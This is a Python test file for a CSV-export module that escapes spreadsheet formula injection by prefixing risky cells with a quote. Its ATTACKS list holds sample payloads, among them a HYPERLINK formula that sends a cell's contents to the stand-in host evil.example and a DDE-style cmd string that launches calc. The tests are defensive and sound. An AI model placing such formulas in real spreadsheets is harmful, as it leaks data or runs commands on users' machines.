"""CSV cells that a spreadsheet would run as formulas are written as text; the file still reads back as data."""

from __future__ import annotations

import io

import polars as pl
import pytest

from analytics import safe_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


class TestNeutralise:
    @pytest.mark.parametrize("value", ATTACKS)
    def test_a_formula_start_gets_a_leading_quote(self, value):
        frame = safe_csv.neutralise(pl.DataFrame({"name": [value]}))
        assert frame["name"][0] == "'" + value

    @pytest.mark.parametrize("value", ["Clúster de Medellín", "a=b", "e-mail", "", None, "'already quoted"])
    def test_other_text_is_unchanged(self, value):
        assert safe_csv.neutralise(pl.DataFrame({"name": [value]}, schema={"name": pl.String}))["name"][0] == value

    def test_numbers_stay_numbers(self):
        frame = safe_csv.neutralise(pl.DataFrame({"latitude": [-33.45], "firms": [-1]}))
        assert frame["latitude"][0] == -33.45 and frame["firms"][0] == -1

    def test_raw_keeps_values_verbatim(self):
        frame = pl.DataFrame({"name": ATTACKS})
        assert pl.read_csv(io.StringIO(safe_csv.write_csv(frame, raw=True)))["name"].to_list() == ATTACKS

    def test_written_and_read_back(self, tmp_path):
        path = tmp_path / "x.csv"
        safe_csv.write_csv(pl.DataFrame({"name": ATTACKS, "n": range(len(ATTACKS))}), path)
        back = pl.read_csv(path)
        assert back["name"].to_list() == ["'" + value for value in ATTACKS]
        assert back["n"].to_list() == list(range(len(ATTACKS)))
